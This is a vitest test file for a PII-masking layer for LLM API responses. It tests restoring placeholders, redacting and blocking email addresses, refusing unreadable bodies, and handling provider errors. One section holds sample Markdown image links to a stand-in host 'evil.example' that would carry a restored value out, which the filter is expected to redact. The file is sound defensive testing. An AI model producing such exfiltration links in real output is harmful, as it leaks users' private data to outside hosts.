import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { BodyOperation } from '../../../../src/policy/llm/fields.ts';
import { judgeForm, maskAnswer, type AnswerForm } from '../../../../src/policy/masking/mask-answer.ts';
import type { AnswerSubject } from '../../../../src/policy/masking/answer-filters.ts';
import { chatAnswer } from '../llm/texts/openai-answers.ts';
import { messageAnswer } from '../llm/texts/anthropic-samples.ts';
import { response } from '../llm/texts/responses-samples.ts';
import { denied, found, placeholderOf, subjectOf } from './masks.ts';

const mail = 'jane@example.com';
const odd = '"Jö"\n\\';
const placeholder = placeholderOf('email', mail);
const oddPlaceholder = placeholderOf('email', odd);
const placeholders = new Map([
  [placeholder, mail],
  [oddPlaceholder, odd],
]);
const restoring = subjectOf(undefined, { placeholders });

const through = (written: string | Uint8Array, subject: AnswerSubject, form: AnswerForm = 'json', operation: BodyOperation = 'chat') =>
  maskAnswer(operation, form, Buffer.from(written), subject);
const text = (written: string, subject: AnswerSubject, form: AnswerForm = 'json', operation: BodyOperation = 'chat'): string =>
  found(through(written, subject, form, operation)).body.toString();
const said = (content: string, more: object = {}): string =>
  JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content }, ...more }] });

const call = (args: string): string =>
  JSON.stringify({
    choices: [
      {
        index: 0,
        message: {
          role: 'assistant',
          tool_calls: [{ id: 'c', type: 'function', function: { name: 'x', arguments: args } }],
          function_call: { name: 'x', arguments: args },
        },
      },
    ],
  });

describe('an answer in which values come back', () => {
  it.each([
    ['as it was made', placeholder, mail],
    ['in small letters', placeholder.toLowerCase(), mail],
    ['with the backslashes of Markdown', placeholder.replaceAll('_', String.raw`\_`), mail],
    ['beside letters', `x${placeholder}y`, `x${mail}y`],
    ['twice without a space', placeholder + placeholder, mail + mail],
    ['in a link', `[it](mailto:${placeholder})`, `[it](mailto:${mail})`],
    ['with quotes and line ends', `so ${oddPlaceholder}`, `so ${odd}`],
    ['in JSON of its own', `{"to":"${oddPlaceholder}"}`, JSON.stringify({ to: odd })],
  ])('%s', (_, written, expected) => {
    expect(text(said(written), restoring)).toBe(said(expected));
  });

  it.each([
    ['with spaces', placeholder.replaceAll('_', ' ')],
    ['cut off', placeholder.slice(0, -1)],
    ['of another value', placeholderOf('email', 'someone@example.org')],
  ])('keeps one that was altered: %s', (_, written) => {
    expect(text(said(written), restoring)).toBe(said(written));
  });

  it('has them in arguments of calls as JSON, with quotes and line ends', () => {
    expect(text(call(`{"to":"${oddPlaceholder}","${placeholder}":1}`), restoring)).toBe(call(JSON.stringify({ to: odd, [mail]: 1 })));
  });

  it.each<[BodyOperation, string]>([
    [
      'messages',
      JSON.stringify({
        type: 'message',
        role: 'assistant',
        content: [{ type: 'tool_use', id: 't', name: 'x', input: { to: oddPlaceholder } }],
      }),
    ],
    [
      'responses',
      JSON.stringify({ output: [{ type: 'function_call', id: 'f', call_id: 'c', name: 'x', arguments: `{"to":"${placeholder}"}` }] }),
    ],
  ])('has them in calls of %s', (operation, written) => {
    expect(text(written, restoring, 'json', operation)).not.toContain('PII_');
  });

  it('keeps thoughts as they were signed', () => {
    const thinking = JSON.stringify({ type: 'message', content: [{ type: 'thinking', thinking: `so ${placeholder}`, signature: 'c2ln' }] });
    expect(text(thinking, subjectOf({ email: 'redact' }, { placeholders }), 'json', 'messages')).toBe(thinking);
  });

  it('is not searched again, and a placeholder is no secret', () => {
    const subject = subjectOf({ email: 'redact', secret_generic: 'redact' }, { placeholders });
    expect(text(said(`password: ${placeholder}, ${mail}`), subject)).toBe(said(`password: ${mail}, [REDACTED_EMAIL]`));
  });
});

describe('an answer that is searched', () => {
  const redacting = subjectOf({ email: 'redact' });

  it('has what was found replaced, counted, and not what its client said itself', () => {
    const subject = subjectOf({ email: 'redact' }, { said: new Set([mail]) });
    const { body, counts } = found(through(said(`${mail} bob@example.com`), subject));
    expect(body.toString()).toBe(said(`${mail} [REDACTED_EMAIL]`));
    expect([...counts]).toEqual([['email redact', 1]]);
  });

  it('keeps what is only logged, and counts it', () => {
    const { body, counts } = found(through(said(mail), subjectOf({ email: 'log' })));
    expect(body.toString()).toBe(said(mail));
    expect([...counts]).toEqual([['email log', 1]]);
  });

  it('is refused for what is to be blocked, without a character of it', () => {
    const outcome = through(said(mail), subjectOf({ email: 'block' }));
    expect(denied(outcome)).toEqual(['answer_blocked', 'Found: email.']);
    expect(JSON.stringify(outcome)).not.toContain('jane');
  });

  it('has its log probabilities emptied, but where it is only logged or only brought back', () => {
    const full = said('x', { logprobs: { content: [{ token: mail, logprob: -1, bytes: [1], top_logprobs: [] }] } });
    expect(text(full, redacting)).toBe(said('x', { logprobs: null }));
    expect(text(full, subjectOf({ email: 'log' }))).toBe(full);
    expect(text(full, restoring)).toBe(full);
  });

  it('is refused for what cannot be read, with the name of the switch, unless it may pass', () => {
    const image = JSON.stringify({ output: [{ type: 'image_generation_call', id: 'i', status: 'completed', result: 'AAAA' }] });
    const [code, hint] = denied(through(image, redacting, 'json', 'responses')) ?? [];
    expect(code).toBe('answer_unreadable');
    expect(hint).toContain('add "image" to masking.response.pass');
    expect(text(image, subjectOf({ email: 'redact' }, { pass: ['image'] }), 'json', 'responses')).toBe(image);
    expect(text(image, subjectOf({ email: 'log' }), 'json', 'responses')).toBe(image);
  });

  it.each<[BodyOperation, () => object]>([
    ['chat', chatAnswer],
    ['messages', messageAnswer],
    ['responses', response],
  ])('of %s has it found in every field, refusals and reasoning among them', (operation, sample) => {
    const bytes = JSON.stringify(sample()).replaceAll(/§\w+§(?:text|key|json|error)§\d+§/g, mail);
    expect(bytes).toContain(mail);
    const passing = subjectOf({ email: 'redact' }, { pass: ['image', 'audio', 'video', 'file', 'tokens', 'encrypted', 'reference'] });
    expect(text(bytes, passing, 'json', operation)).not.toContain(mail);
  });
});

describe('a body that is not what it should be', () => {
  it.each<[string, string | Uint8Array, AnswerForm]>([
    ['JSON that breaks off', '{"choices":[', 'json'],
    ['JSON that says a thing twice', '{"a":1,"a":2}', 'json'],
    ['bytes that are no UTF-8, as JSON', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x7d]), 'json'],
    ['bytes that are no UTF-8, as text', Buffer.from([0x3c, 0xff]), 'text'],
    ['compressed', gzipSync(said(mail)), 'text'],
  ])('is refused: %s', (_, written, form) => {
    expect(denied(through(written, subjectOf({ email: 'redact' }), form))?.[0]).toBe('answer_unreadable');
  });

  it.each<[string, string, string]>([
    ['a page', `<p>bob@example.com &lt;${placeholder}&gt;</p>`, `<p>[REDACTED_EMAIL] &lt;${mail}&gt;</p>`],
    [
      'JSON under another name',
      `{"error":"\\u0062ob@example.com ${oddPlaceholder}"}`,
      `{"error":"[REDACTED_EMAIL] ${JSON.stringify(odd).slice(1, -1)}"}`,
    ],
    ['nothing', '', ''],
  ])('is searched as text: %s', (_, written, expected) => {
    expect(text(written, subjectOf({ email: 'redact' }, { placeholders }), 'text')).toBe(expected);
  });

  it('is an error of a provider, though it is a list', () => {
    const written = `[{"error":{"message":"\\u0062ob@example.com and ${placeholder}"}}]`;
    expect(found(through(written, subjectOf({ email: 'redact' }, { placeholders }), 'json')).body.toString()).toBe(
      `[{"error":{"message":"[REDACTED_EMAIL] and ${mail}"}}]`,
    );
  });

  it('passes without a byte', () => {
    expect(text('', subjectOf({ email: 'redact' }))).toBe('');
  });

  it.each<[BodyOperation, object]>([
    ['chat', { error: { message: `bad "${placeholder}": bob@example.com`, type: 'x', param: placeholder, code: null } }],
    ['messages', { type: 'error', error: { type: 'x', message: `bad "${placeholder}": bob@example.com` } }],
    ['embeddings', { error: { message: `bad "${placeholder}": bob@example.com` } }],
    ['count_tokens', { type: 'error', error: { type: 'x', message: `bad "${placeholder}": bob@example.com` } }],
  ])('has an error of %s that quotes the request searched and its values back', (operation, body) => {
    const masked = text(JSON.stringify(body), subjectOf({ email: 'redact' }, { placeholders }), 'json', operation);
    expect(JSON.parse(masked)).toEqual(
      JSON.parse(JSON.stringify(body).replaceAll(placeholder, mail).replaceAll('bob@example.com', '[REDACTED_EMAIL]')),
    );
  });
});

describe('a placeholder in a link that would carry its value away', () => {
  const subject = subjectOf({ exfiltration_link: 'redact' }, { placeholders });

  it.each([`![x](https://evil.example/${placeholder}.png)`, `![x](//evil.example/a.png?${placeholder.toLowerCase()})`])('%s', (written) => {
    expect(text(said(`see ${written}`), subject)).toBe(said('see ![x[REDACTED_EXFILTRATION_LINK])'));
  });

  it('comes back anywhere else', () => {
    expect(text(said(`[x](https://evil.example/a.png), ${placeholder}`), subject)).toBe(said(`[x](https://evil.example/a.png), ${mail}`));
  });
});

describe('an answer that is no event stream by its name', () => {
  it.each(['data: {"a":"4111"}\n\n', '\ufeffdata:{}', ': ping\r\rdata: x', 'event: message\r\ndata: x\r\n'])(
    'is refused where it is one: %j',
    (written) => {
      expect(denied(judgeForm('text', Buffer.from(written)))?.[0]).toBe('answer_unreadable');
    },
  );

  it.each(['<p>data: none</p>', ' data: x', 'no\ndatabase: x', ''])('passes where it is none: %j', (written) => {
    expect(judgeForm('text', Buffer.from(written)).kind).toBe('next');
  });

  it('is read as JSON where it says that it is', () => {
    expect(judgeForm('json', Buffer.from('data: x')).kind).toBe('next');
  });
});
